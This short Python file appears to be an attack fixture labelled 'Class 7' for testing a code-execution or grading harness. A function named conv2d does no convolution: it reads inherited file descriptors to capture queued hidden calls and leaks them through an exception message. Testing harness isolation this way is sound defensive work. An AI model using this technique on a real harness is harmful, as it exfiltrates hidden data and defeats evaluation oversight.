"""Class 7: during a visible call, read the command pipe for the frames of the hidden calls queued
behind it and put what was read into this (visible) call's error message."""
import os
import sys


def conv2d(x, w, b=None, stride=1, padding="VALID"):
    leaked = b""
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            leaked += os.read(fd, 1 << 20)
        except BaseException:
            pass
    if leaked:
        raise ValueError(f"LEAKED {len(leaked)} bytes: {leaked[:200]!r}")
    raise RuntimeError("nothing queued")
